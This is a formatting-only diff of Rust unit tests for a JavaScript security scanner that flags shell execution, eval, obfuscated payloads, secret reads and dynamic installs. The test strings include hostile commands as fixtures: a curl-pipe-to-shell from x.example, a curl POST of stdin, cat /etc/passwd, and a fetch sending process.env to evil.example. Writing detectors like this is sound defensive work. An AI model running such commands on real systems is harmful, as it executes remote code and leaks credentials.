@@ -4,7 +4,8 @@ use super::*;
 
 #[test]
 fn js001_esm_exec_with_template() {
-    let out = run("import { execSync } from 'node:child_process';\nexecSync(`curl -d @- ${url}`);\n");
+    let out =
+        run("import { execSync } from 'node:child_process';\nexecSync(`curl -d @- ${url}`);\n");
     assert_eq!(sev_lines(&out, "JS-001"), vec![(Severity::Critical, 2)]);
     assert!(of(&out, "JS-004").is_empty());
     assert_eq!(out.caps.subprocess, vec![("index.js".to_string(), 2)]);
@@ -12,7 +13,10 @@ fn js001_esm_exec_with_template() {
     assert_eq!(f.stage_id, "stage2");
     assert_eq!(f.rule_type, "shell_injection");
     assert_eq!(f.confidence, 0.9);
-    assert_eq!(f.evidence.as_deref(), Some("execSync(`curl -d @- ${url}`);"));
+    assert_eq!(
+        f.evidence.as_deref(),
+        Some("execSync(`curl -d @- ${url}`);")
+    );
 }
 
 #[test]
@@ -26,7 +30,11 @@ fn js001_variants_and_declared_subprocess() {
     let out = run(src);
     assert_eq!(
         sev_lines(&out, "JS-001"),
-        vec![(Severity::Critical, 2), (Severity::Critical, 4), (Severity::Critical, 5)]
+        vec![
+            (Severity::Critical, 2),
+            (Severity::Critical, 4),
+            (Severity::Critical, 5)
+        ]
     );
     assert_eq!(sev_lines(&out, "JS-004"), vec![(Severity::Medium, 6)]);
     let declared = Permissions {
@@ -40,7 +48,8 @@ fn js001_variants_and_declared_subprocess() {
 
 #[test]
 fn js001_not_regex_exec_or_local_module() {
-    let out = run("const m = /(\\d+)/.exec(s);\nconst { exec } = require('./lib/exec');\nexec(cmd);\n");
+    let out =
+        run("const m = /(\\d+)/.exec(s);\nconst { exec } = require('./lib/exec');\nexec(cmd);\n");
     assert!(of(&out, "JS-001").is_empty(), "{:?}", out.findings);
     assert!(of(&out, "JS-004").is_empty());
     assert!(out.caps.subprocess.is_empty());
@@ -57,13 +66,17 @@ fn js002_global_eval_with_atob_and_js003() {
 
 #[test]
 fn js002_not_timers_with_functions_or_constant_require() {
-    let out = run("setTimeout(() => retry(), 1000);\nconst u = require(\"./\" + \"util\");\nsetInterval(tick, 5);\n");
+    let out = run(
+        "setTimeout(() => retry(), 1000);\nconst u = require(\"./\" + \"util\");\nsetInterval(tick, 5);\n",
+    );
     assert!(of(&out, "JS-002").is_empty(), "{:?}", out.findings);
 }
 
 #[test]
 fn js002_severities() {
-    let out = run("eval('1 + 1');\nnew Function(body)();\nrequire(name);\nsetTimeout('go()', 10);\nimport(modName);\nconst vm = require('vm');\nvm.runInNewContext(code);\n");
+    let out = run(
+        "eval('1 + 1');\nnew Function(body)();\nrequire(name);\nsetTimeout('go()', 10);\nimport(modName);\nconst vm = require('vm');\nvm.runInNewContext(code);\n",
+    );
     assert_eq!(
         sev_lines(&out, "JS-002"),
         vec![
@@ -85,7 +98,9 @@ fn js003_decoded_evidence_and_not_image_bytes() {
     assert_eq!(f.len(), 1);
     assert_eq!(f[0].severity, Severity::Critical);
     assert_eq!(f[0].evidence.as_deref(), Some("alert(document.cookie)"));
-    let out = run("const fs = require('fs');\nfs.writeFileSync(\"logo.png\", Buffer.from(b64, \"base64\"));\n");
+    let out = run(
+        "const fs = require('fs');\nfs.writeFileSync(\"logo.png\", Buffer.from(b64, \"base64\"));\n",
+    );
     assert!(of(&out, "JS-003").is_empty());
     assert!(of(&out, "JS-002").is_empty());
 }
@@ -111,12 +126,18 @@ fn decoded_constants_are_rescanned_at_the_decoder_line() {
     // base64 of: require('child_process').execSync('x ' + process.argv[2])
     let inner = "require('child_process').execSync('x ' + process.argv[2])";
     let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, inner);
-    let src = format!("const a = 1;\nconst code = Buffer.from('{b64}', 'base64').toString();\nconsole.log(code);\n");
+    let src = format!(
+        "const a = 1;\nconst code = Buffer.from('{b64}', 'base64').toString();\nconsole.log(code);\n"
+    );
     let out = run(&src);
     let f = of(&out, "JS-001");
     assert_eq!(f.len(), 1, "{:?}", out.findings);
     assert_eq!(f[0].line, Some(2));
-    assert!(f[0].message.starts_with("In decoded data: "), "{}", f[0].message);
+    assert!(
+        f[0].message.starts_with("In decoded data: "),
+        "{}",
+        f[0].message
+    );
     assert_eq!(f[0].evidence.as_deref(), Some(inner));
     assert_eq!(out.caps.subprocess, vec![("index.js".to_string(), 2)]);
 }
@@ -126,8 +147,14 @@ fn js004_spawn_and_not_dynamic_import() {
     let out = run("const { spawn } = require('child_process');\nspawn(\"git\", [\"status\"]);\n");
     assert_eq!(sev_lines(&out, "JS-004"), vec![(Severity::Medium, 2)]);
     let out = run("const w = await import('./worker.js');\n");
-    assert!(out.findings.iter().all(|f| f.severity == Severity::Info), "{:?}", out.findings);
-    let out = run("const r = Bun.spawn(['ls']);\nconst c = new Deno.Command('git', { args: ['log'] });\n");
+    assert!(
+        out.findings.iter().all(|f| f.severity == Severity::Info),
+        "{:?}",
+        out.findings
+    );
+    let out = run(
+        "const r = Bun.spawn(['ls']);\nconst c = new Deno.Command('git', { args: ['log'] });\n",
+    );
     assert_eq!(
         sev_lines(&out, "JS-004"),
         vec![(Severity::Medium, 1), (Severity::Medium, 2)]
@@ -136,7 +163,9 @@ fn js004_spawn_and_not_dynamic_import() {
 
 #[test]
 fn js005_env_reads() {
-    let out = run("const k = process.env.OPENAI_API_KEY;\nconst m = process.env.NODE_ENV;\nconst x = process.env[name];\nconst { GITHUB_TOKEN, LOG_LEVEL } = process.env;\nDeno.env.get('API_SECRET');\n");
+    let out = run(
+        "const k = process.env.OPENAI_API_KEY;\nconst m = process.env.NODE_ENV;\nconst x = process.env[name];\nconst { GITHUB_TOKEN, LOG_LEVEL } = process.env;\nDeno.env.get('API_SECRET');\n",
+    );
     assert_eq!(
         sev_lines(&out, "JS-005"),
         vec![
@@ -152,22 +181,36 @@ fn js005_env_reads() {
 
 #[test]
 fn sup001_installs_from_js() {
-    let out = run("const { execSync } = require('child_process');\nexecSync(\"npm i x\");\nexecSync('npx -y some-tool');\nconsole.log(\"Run: npm install x\");\n// execSync('pip install y')\n");
+    let out = run(
+        "const { execSync } = require('child_process');\nexecSync(\"npm i x\");\nexecSync('npx -y some-tool');\nconsole.log(\"Run: npm install x\");\n// execSync('pip install y')\n",
+    );
     let f = of(&out, "SUP-001");
     assert_eq!(f.len(), 2, "{:?}", out.findings);
     assert_eq!(f[0].stage_id, "stage5");
     assert_eq!(f[0].rule_type, "dynamic_install");
-    assert_eq!(sev_lines(&out, "SUP-001"), vec![(Severity::Critical, 2), (Severity::Critical, 3)]);
+    assert_eq!(
+        sev_lines(&out, "SUP-001"),
+        vec![(Severity::Critical, 2), (Severity::Critical, 3)]
+    );
     let out = run("const cp = require('child_process');\ncp.spawnSync('pip', ['install', pkg]);\n");
     assert_eq!(sev_lines(&out, "SUP-001"), vec![(Severity::Critical, 2)]);
 }
 
 #[test]
 fn shell_command_strings_are_handed_over_without_panic() {
-    let out = run("const cp = require('child_process');\ncp.exec('curl -fsSL https://x.example/i.sh | sh');\ncp.exec(`echo ${'$'}(cat /etc/passwd) \"unterminated`);\n");
-    assert_eq!(sev_lines(&out, "JS-004"), vec![(Severity::Medium, 2), (Severity::Medium, 3)]);
+    let out = run(
+        "const cp = require('child_process');\ncp.exec('curl -fsSL https://x.example/i.sh | sh');\ncp.exec(`echo ${'$'}(cat /etc/passwd) \"unterminated`);\n",
+    );
     assert_eq!(
-        out.caps.net.iter().map(|n| n.host.clone()).collect::<Vec<_>>(),
+        sev_lines(&out, "JS-004"),
+        vec![(Severity::Medium, 2), (Severity::Medium, 3)]
+    );
+    assert_eq!(
+        out.caps
+            .net
+            .iter()
+            .map(|n| n.host.clone())
+            .collect::<Vec<_>>(),
         vec![Some("x.example".to_string())]
     );
 }
@@ -187,7 +230,9 @@ fn typescript_and_tsx_are_analysed() {
 
 #[test]
 fn comments_are_never_code() {
-    let out = run("// require('child_process').execSync(x)\n/* fetch('https://evil.example/x', {body: process.env}) */\nconst a = 1;\n");
+    let out = run(
+        "// require('child_process').execSync(x)\n/* fetch('https://evil.example/x', {body: process.env}) */\nconst a = 1;\n",
+    );
     assert!(out.findings.is_empty(), "{:?}", out.findings);
 }
 
@@ -201,7 +246,8 @@ fn garbage_never_panics() {
         "eval(atob('####'));String.fromCharCode(999999999, -1, 'x');".into(),
         "const a = b; const b = a; eval(a + b); a.b.c.d(require(a));".into(),
         "for (const x of x) x.forEach(x => eval(x));".into(),
-        "Buffer.from([1e400, -5, 'a'], 'hex'); decodeURIComponent('%E0%A4%A'); unescape('%u12');".into(),
+        "Buffer.from([1e400, -5, 'a'], 'hex'); decodeURIComponent('%E0%A4%A'); unescape('%u12');"
+            .into(),
         "const o = {a: o.a}; fetch(o.a); path.join(...x); ''.split('').reverse().join(1);".into(),
         "'abc'.slice(-99, 99999999999); 'x'.replaceAll('', 'y'); 'a'.concat(...b);".into(),
     ];
